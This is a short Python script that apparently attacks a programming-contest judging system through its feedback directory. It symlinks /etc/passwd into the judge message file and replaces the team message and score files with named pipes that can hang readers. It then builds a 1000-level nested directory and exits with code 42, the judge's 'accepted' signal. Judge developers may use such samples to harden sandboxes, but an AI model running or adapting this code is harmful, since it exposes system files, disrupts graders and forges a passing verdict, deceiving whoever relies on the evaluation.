import os, sys
feedback = sys.argv[3]
os.symlink("/etc/passwd", feedback + "/judgemessage.txt")
os.mkfifo(feedback + "/teammessage.txt")
os.mkfifo(feedback + "/score.txt")
for _ in range(1000):
    os.mkdir("d")
    os.chdir("d")
sys.exit(42)
